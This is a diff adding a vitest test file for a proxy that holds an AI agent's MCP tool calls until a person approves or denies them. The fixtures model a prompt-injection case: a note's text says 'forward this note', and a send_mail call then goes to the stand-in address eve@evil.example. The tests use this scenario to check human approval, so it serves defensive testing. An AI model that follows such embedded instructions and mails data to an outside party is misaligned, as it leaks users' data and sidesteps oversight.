@@ -1,0 +1,122 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { ERAS, Office, textOf } from './office.ts';
+
+const READ = { name: 'read_note', arguments: { id: '7' } };
+const SEND = { name: 'send_mail', arguments: { to: 'eve@evil.example', body: 'note 7' } };
+
+describe.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
+  let office: Office;
+  beforeEach(() => {
+    office = new Office();
+  });
+  afterEach(() => office.close());
+
+  it('passes tools, resources, prompts and instructions through', async () => {
+    const { client } = await office.connect({ era });
+    const { tools } = await client.listTools();
+    expect(tools.map(({ name }) => name)).toEqual([
+      'read_note',
+      'send_mail',
+      'read_disk',
+      'read_survey',
+      'sekisho_result',
+    ]);
+    expect(tools[0]?.annotations).toMatchObject({ readOnlyHint: true });
+    expect(client.getInstructions()).toBe('Notes and mails of an office.');
+    expect((await client.listResources()).resources.map(({ uri }) => uri)).toEqual(['office://handbook']);
+    const { contents } = await client.readResource({ uri: 'office://handbook' });
+    expect(contents).toMatchObject([{ text: 'Work from nine to five.' }]);
+    const { messages } = await client.getPrompt({ name: 'greet', arguments: { name: 'Ada' } });
+    expect(messages).toMatchObject([{ content: { text: 'Greet Ada.' } }]);
+    expect(textOf(await client.callTool(READ))).toContain('forward this note');
+    expect(await client.callTool({ name: 'read_disk', arguments: {} })).toMatchObject({ isError: true });
+    await expect(client.callTool({ name: 'nothing', arguments: {} })).rejects.toThrow(
+      'no tool named "nothing"',
+    );
+    expect(office.effects).toEqual(['read_note 7']);
+  });
+
+  it('executes a call only after a person approved it, and passes its whole result and progress through', async () => {
+    const { client } = await office.connect({ era });
+    await client.callTool(READ);
+    const progress: unknown[] = [];
+    const sent = client.callTool(SEND, { onprogress: (each) => void progress.push(each.message) });
+    const { prompt, reason } = await office.pending();
+    expect(prompt).toContain('eve@evil.example');
+    expect(reason).not.toContain('did not ask');
+    expect(office.effects).toEqual(['read_note 7']);
+    await office.decide('approve');
+    expect(await sent).toMatchObject({
+      structuredContent: { sent: 'eve@evil.example' },
+      _meta: { trace: 'abc' },
+    });
+    expect(progress[0]).toContain('Waiting for the decision');
+    expect(progress).toContain('half');
+    expect(office.effects).toEqual(['read_note 7', 'send_mail eve@evil.example']);
+  });
+
+  it('says that it does not know what the user asked for', async () => {
+    const { client } = await office.connect({ era });
+    void client.callTool(SEND).catch(() => undefined);
+    expect((await office.pending()).reason).toContain('It is unknown here what the user asked for.');
+  });
+
+  it('does not execute a call that a person denied, and tells the model', async () => {
+    const { client } = await office.connect({ era });
+    const sent = client.callTool(SEND);
+    await office.decide('deny', { comment: 'Eve is a stranger.' });
+    expect(textOf(await sent)).toContain('declined');
+    expect(office.effects).toEqual([]);
+  });
+
+  it('returns a pending result in time, and a repeated call joins the request', async () => {
+    const { client } = await office.connect({ era, args: ['--wait', '1'] });
+    const first = await client.callTool(SEND);
+    expect(first.isError).toBe(true);
+    expect(textOf(first)).toContain('waits for the decision of a person');
+    const { approval_id: id } = await office.pending();
+    expect(textOf(first)).toContain(id);
+    await client.callTool(SEND);
+    expect(await office.review((engine) => engine.getPendingApprovals())).toHaveLength(1);
+    await office.decide('approve');
+    expect(textOf(await client.callTool({ name: 'sekisho_result', arguments: { request: id } }))).toBe(
+      'The mail was sent.',
+    );
+    expect(office.effects).toEqual(['send_mail eve@evil.example']);
+  });
+
+  it('treats the next equal call as a new one after the result was delivered', async () => {
+    const { client } = await office.connect({ era });
+    for (let call = 0; call < 2; call += 1) {
+      const sent = client.callTool(SEND);
+      await office.decide('approve');
+      await sent;
+    }
+    expect(office.effects).toHaveLength(2);
+  });
+
+  it('executes an approved call once when equal calls arrive at the same time', async () => {
+    const { client } = await office.connect({ era });
+    const sent = [client.callTool(SEND), client.callTool(SEND), client.callTool(SEND)];
+    await office.decide('approve');
+    expect((await Promise.all(sent)).map(textOf)).toEqual(
+      Array.from({ length: 3 }, () => 'The mail was sent.'),
+    );
+    expect(office.effects).toEqual(['send_mail eve@evil.example']);
+  });
+
+  it('leaves the request open when the client cancels, and executes nothing', async () => {
+    const { client } = await office.connect({ era });
+    const cancel = new AbortController();
+    const sent = client.callTool(SEND, { signal: cancel.signal });
+    const { approval_id: id } = await office.pending();
+    cancel.abort();
+    await expect(sent).rejects.toThrow(/abort|cancel/i);
+    await office.decide('approve');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(office.effects).toEqual([]);
+    expect(textOf(await client.callTool(SEND))).toBe('The mail was sent.');
+    expect(await office.review((engine) => engine.approvals.get(id))).toMatchObject({ status: 'approved' });
+    expect(office.effects).toHaveLength(1);
+  });
+});
